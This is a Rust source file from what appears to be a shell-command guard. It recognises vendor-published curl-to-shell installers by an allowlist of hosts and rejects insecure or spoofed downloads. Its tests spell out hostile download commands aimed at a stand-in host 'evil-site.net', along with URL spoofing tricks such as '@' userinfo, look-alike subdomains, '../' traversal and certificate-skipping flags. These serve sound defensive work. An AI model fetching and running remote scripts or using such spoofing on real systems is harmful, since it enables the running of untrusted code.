//! Installers that their vendors publish as a command to copy.

use canonry_guard::shell::SimpleCommand;

/// Where the installation pages of these products tell to pipe a download to a shell: the host, and the path that it begins with. On
/// hosts where everybody has files, the path names the account and the repository.
const PUBLISHED: [&str; 84] = [
    "app.factory.ai/cli",
    "astral.sh/",
    "bun.com/install",
    "bun.sh/install",
    "chatgpt.com/codex/install",
    "claude.ai/install",
    "cli.coderabbit.ai/install",
    "cli.doppler.com/install",
    "cli.kiro.dev/install",
    "coder.com/install.sh",
    "cpanmin.us/",
    "cursor.com/install",
    "d2lang.com/install.sh",
    "deb.nodesource.com/setup",
    "deno.land/install.sh",
    "deno.land/x/install/install.sh",
    "dl.min.io/",
    "dot.net/v1/dotnet-install.sh",
    "dprint.dev/install.sh",
    "encore.dev/install.sh",
    "fly.io/install.sh",
    "fnm.vercel.app/install",
    "foundry.paradigm.xyz/",
    "get-ghcup.haskell.org/",
    "get.acme.sh/",
    "get.chezmoi.io/",
    "get.docker.com/",
    "get.k0s.sh/",
    "get.k3s.io/",
    "get.nextflow.io/",
    "get.pnpm.io/install",
    "get.pulumi.com/",
    "get.rvm.io/",
    "get.sdkman.io/",
    "get.trunk.io/",
    "get.volta.sh/",
    "get.wasmer.io/",
    "getcomposer.org/installer",
    "install.determinate.systems/",
    "install.duckdb.org/",
    "install.julialang.org/",
    "install.meteor.com/",
    "install.python-poetry.org/",
    "istio.io/downloadistio",
    "just.systems/install.sh",
    "micro.mamba.pm/install",
    "mise.jdx.dev/install.sh",
    "mise.run/",
    "moonrepo.dev/install/",
    "nixos.org/nix/install",
    "ollama.com/install.sh",
    "opencode.ai/install",
    "pixi.sh/install",
    "pyenv.run/",
    "railway.com/install.sh",
    "rclone.org/install.sh",
    "release.anza.xyz/",
    "run.linkerd.io/install",
    "sdk.cloud.google.com/",
    "sentry.io/get-cli/",
    "setup.atuin.sh/",
    "sh.rustup.rs/",
    "starship.rs/install.sh",
    "tailscale.com/install.sh",
    "taskfile.dev/install.sh",
    "wasmtime.dev/install.sh",
    "zed.dev/install.sh",
    "raw.githubusercontent.com/ajeetdsouza/zoxide/",
    "raw.githubusercontent.com/anchore/",
    "raw.githubusercontent.com/aquasecurity/",
    "raw.githubusercontent.com/golangci/golangci-lint/",
    "raw.githubusercontent.com/helm/helm/",
    "raw.githubusercontent.com/homebrew/install/",
    "raw.githubusercontent.com/junegunn/fzf/",
    "raw.githubusercontent.com/k3d-io/k3d/",
    "raw.githubusercontent.com/kubernetes-sigs/kustomize/",
    "raw.githubusercontent.com/leanprover/elan/",
    "raw.githubusercontent.com/nektos/act/",
    "raw.githubusercontent.com/nvm-sh/nvm/",
    "raw.githubusercontent.com/ocaml/opam/",
    "raw.githubusercontent.com/ohmyzsh/ohmyzsh/",
    "raw.githubusercontent.com/pyenv/pyenv-installer/",
    "raw.githubusercontent.com/rustwasm/wasm-pack/",
    "raw.githubusercontent.com/terraform-linters/tflint/",
];

/// Options that switch off the check of a certificate.
const INSECURE: [&str; 5] =
    ["-k", "--insecure", "--no-check-certificate", "--check-certificate=false", "-skipcertificatecheck"];

/// The host of a published installer, if a command downloads nothing else.
pub(super) fn host(download: &SimpleCommand) -> Option<String> {
    let words = || download.words.iter().skip(1).map(|word| word.text.to_ascii_lowercase());
    let is_insecure = |word: String| {
        let has_short = word.starts_with('-') && !word.starts_with("--") && word.contains('k') && !word.contains('=');
        INSECURE.contains(&word.as_str()) || has_short
    };
    if words().any(is_insecure) {
        return None;
    }
    let addresses: Vec<String> = words().filter(|word| is_address(word)).collect();
    let is_published = |address: &String| {
        let address = address.strip_prefix("https://").filter(|address| !address.contains(['@', '\\', '\0']))?;
        let address = if address.contains('/') { address.to_owned() } else { format!("{address}/") };
        // A path such as `/a/../b` leads elsewhere.
        let path = address.split(['?', '#']).next().unwrap_or_default();
        let is_known = PUBLISHED.iter().any(|prefix| path.starts_with(prefix)) && !path.contains("..");
        is_known.then(|| path.split('/').next().unwrap_or_default().to_owned())
    };
    let hosts: Option<Vec<String>> = addresses.iter().map(is_published).collect();
    hosts?.into_iter().next()
}

/// Whether an argument of a download is what it downloads.
pub(super) fn is_address(word: &str) -> bool {
    let host = word.split('/').next().unwrap_or_default();
    word.contains("://") || !word.starts_with('-') && host.contains('.') && host.contains(char::is_alphanumeric)
}

#[cfg(test)]
mod tests {
    use super::*;
    use canonry_guard::shell;

    #[test]
    fn entries_are_addresses_in_lower_case() {
        for entry in PUBLISHED {
            assert!(entry.contains('/') && is_address(entry) && entry == entry.to_ascii_lowercase(), "{entry}");
        }
    }

    #[test]
    fn only_published_installers_are_known() {
        for (command, want) in [
            ("curl -LsSf https://astral.sh/uv/install.sh", Some("astral.sh")),
            ("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs", Some("sh.rustup.rs")),
            (
                "curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh",
                Some("raw.githubusercontent.com"),
            ),
            ("curl https://raw.githubusercontent.com/stranger/homebrew/main/i.sh", None),
            ("curl https://evil-site.net/x.sh", None),
            ("curl http://astral.sh/uv/install.sh", None),
            ("curl -k https://astral.sh/uv/install.sh", None),
            ("curl -fskL https://astral.sh/uv/install.sh", None),
            ("curl https://astral.sh.evil-site.net/x", None),
            ("curl https://astral.sh@evil-site.net/x", None),
            ("curl https://raw.githubusercontent.com/homebrew/install/../../x/y", None),
            ("curl https://astral.sh/uv/install.sh https://evil-site.net/x.sh", None),
            ("curl https://astral.sh/uv/install.sh evil-site.net/x.sh", None),
            ("curl $URL", None),
        ] {
            let script = shell::read_script(command);
            assert_eq!(host(&script.commands[0]).as_deref(), want, "{command}");
        }
    }
}
